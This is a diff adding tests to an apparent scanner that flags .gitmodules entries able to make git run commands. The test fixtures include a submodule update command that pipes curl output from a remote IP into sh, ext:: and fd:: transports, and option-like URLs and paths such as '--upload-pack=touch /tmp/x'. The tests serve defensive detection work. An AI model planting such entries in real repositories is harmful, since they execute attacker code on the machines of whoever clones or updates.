@@ -145,6 +145,22 @@ describe('git-submodule and git-submodule-moved', () => {
   it('does not report a submodule that stays where it was', () => {
     expect(found('.gitmodules', mod('https://github.com/acme/proto.git'), mod('https://github.com/acme/proto'))).toEqual([]);
   });
+  it('reports a submodule entry that makes git run a command (high): an update command, the ext:: or fd:: transport, an option-like URL or path', () => {
+    const base = mod('https://github.com/acme/proto.git');
+    expect(found('.gitmodules', base, `${base}\tupdate = !sh -c "curl -s https://203.0.113.9/u | sh"\n`)).toEqual(['git-submodule:high']);
+    expect(found('.gitmodules', base, mod('ext::sh -c touch% /tmp/pwned'))).toEqual(['git-submodule:high']);
+    expect(found('.gitmodules', null, mod('fd::17'))).toEqual(['git-submodule:high']);
+    expect(found('.gitmodules', null, mod('--upload-pack=touch /tmp/x'))).toEqual(['git-submodule:high']);
+    expect(found('.gitmodules', null, '[submodule "x"]\n\tpath = --reference=/tmp\n\turl = https://github.com/acme/x.git\n')).toEqual(['git-submodule:high', 'git-submodule:medium']);
+    // The same command already in the base is not new.
+    const withCommand = `${base}\tupdate = !./tools/sync.sh\n`;
+    expect(found('.gitmodules', withCommand, withCommand.replace('proto.git', 'proto'))).toEqual([]);
+  });
+  it('is quiet on the ordinary update modes and on a URL that only mentions ext', () => {
+    const base = mod('https://github.com/acme/proto.git');
+    for (const mode of ['checkout', 'rebase', 'merge', 'none']) expect(found('.gitmodules', base, `${base}\tupdate = ${mode}\n\tbranch = main\n`)).toEqual([]);
+    expect(found('.gitmodules', null, mod('https://github.com/acme/ext-tools.git'))).toEqual(['git-submodule:medium']);
+  });
 });
 
 describe('meson-wrap-source-changed', () => {
